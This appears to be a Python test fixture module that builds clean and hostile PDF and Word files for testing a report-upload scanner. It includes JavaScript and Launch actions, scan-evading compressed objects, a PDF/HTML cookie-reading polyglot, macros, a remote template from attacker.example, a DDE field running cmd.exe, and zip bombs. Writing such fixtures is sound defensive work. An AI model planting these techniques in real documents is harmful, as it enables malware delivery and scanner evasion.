"""Report files built in the test, clean and hostile: the five from issue 26 item 5 and more.

Nothing here is read from disk: each file is made from a clean PDF (pypdf) or a clean .docx
(python-docx) and changed in the one way that makes it hostile.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import docx
from pypdf import PdfWriter

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


def clean_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def handmade_pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects (1 is the catalog) with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


PAGES = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
]


def pdf_with_javascript_open_action() -> bytes:
    return handmade_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *PAGES,
            b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\)) >>",
        ]
    )


def pdf_with_launch_written_in_hex_escapes() -> bytes:
    return handmade_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *PAGES,
            b"<< /Type /Action /S /L#61unch /F (cmd.exe) >>",
        ]
    )


def pdf_with_javascript_in_a_compressed_object_stream() -> bytes:
    """PDF 1.5: the action lives in a Flate-compressed object stream, found by a cross-reference
    stream; a scan of the raw bytes sees nothing."""
    inside = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"4 0 "
    packed = zlib.compress(header + inside)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    plain = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        *PAGES,
    ]
    for number, body in enumerate(plain, start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[5] = len(out)
    out += (
        b"5 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream\nendobj\n"
    )
    offsets[6] = len(out)
    rows = [b"\x00" + struct.pack(">I", 0) + b"\xff\xff"]
    rows += [b"\x01" + struct.pack(">I", offsets[n]) + b"\x00\x00" for n in (1, 2, 3)]
    rows.append(b"\x02" + struct.pack(">I", 5) + b"\x00\x00")
    rows += [b"\x01" + struct.pack(">I", offsets[n]) + b"\x00\x00" for n in (5, 6)]
    table = zlib.compress(b"".join(rows))
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n" % len(table) + table + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


def pdf_html_polyglot() -> bytes:
    """Opens as a PDF, and as a web page that runs a script once saved as report.html."""
    pdf = clean_pdf()
    return (
        pdf[:9] + b"<html><body><script>alert(document.cookie)</script></body></html>\n" + pdf[9:]
    )


def clean_docx(text: str = "Police report") -> bytes:
    out = io.BytesIO()
    document = docx.Document()
    document.add_paragraph(text)
    document.save(out)
    return out.getvalue()


def rezip(
    base: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
) -> bytes:
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            target.writestr(entry.filename, replace.get(entry.filename, source.read(entry)))
        for name, data in add.items():
            target.writestr(name, data)
    return out.getvalue()


def _content_types(base: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        return archive.read("[Content_Types].xml").decode()


def docx_with_macros() -> bytes:
    """A .docm: the macro-enabled main content type and a VBA project."""
    base = clean_docx()
    types = _content_types(base).replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    types = types.replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    return rezip(
        base,
        replace={"[Content_Types].xml": types.encode()},
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512},
    )


def docx_with_remote_template() -> bytes:
    """settings.xml names a template fetched from another computer when the file opens."""
    base = clean_docx()
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="{RELS_NS}">'
        f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
        'Target="http://attacker.example/template.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    return rezip(base, add={"word/_rels/settings.xml.rels": rels.encode()})


def docx_with_external_hyperlink() -> bytes:
    """A plain link to a web page: common in reports, allowed."""
    base = clean_docx()
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        rels = archive.read("word/_rels/document.xml.rels").decode()
        body = archive.read("word/document.xml").decode()
    rels = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rId99" Type="{REL}/hyperlink" '
        'Target="https://www.gov.uk/government/publications/working-together" '
        'TargetMode="External"/></Relationships>',
    )
    link = (
        '<w:p><w:hyperlink r:id="rId99"><w:r><w:t>Working Together</w:t></w:r></w:hyperlink></w:p>'
    )
    body = body.replace("<w:sectPr", link + "<w:sectPr", 1)
    return rezip(
        base,
        replace={"word/_rels/document.xml.rels": rels.encode(), "word/document.xml": body.encode()},
    )


def docx_with_dde_field() -> bytes:
    base = clean_docx()
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        body = archive.read("word/document.xml").decode()
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '"/k calc.exe"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    body = body.replace("<w:sectPr", field + "<w:sectPr", 1)
    return rezip(base, replace={"word/document.xml": body.encode()})


def docx_zip_bomb(megabytes: int = 200) -> bytes:
    """A real .docx with one more entry of zeros that unpacks to `megabytes` MB."""
    base = clean_docx()
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target,
    ):
        for entry in source.infolist():
            target.writestr(entry.filename, source.read(entry))
        with target.open("word/media/filler.bin", "w") as filler:
            block = b"\0" * (1024 * 1024)
            for _ in range(megabytes):
                filler.write(block)
    return out.getvalue()


def understated(content: bytes, name: str, size: int) -> bytes:
    """The zip with `name`'s declared unpacked size rewritten to `size` in both headers."""
    data = bytearray(content)
    encoded = name.encode()
    # signature, where the unpacked size is, where the name's length is, where the name starts
    for signature, size_at, length_at, name_at in (
        (b"PK\x03\x04", 22, 26, 30),
        (b"PK\x01\x02", 24, 28, 46),
    ):
        start = 0
        while (start := data.find(signature, start)) != -1:
            (length,) = struct.unpack_from("<H", data, start + length_at)
            if data[start + name_at : start + name_at + length] == encoded:
                struct.pack_into("<I", data, start + size_at, size)
            start += 4
    return bytes(data)


def odt() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


OLD_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1024
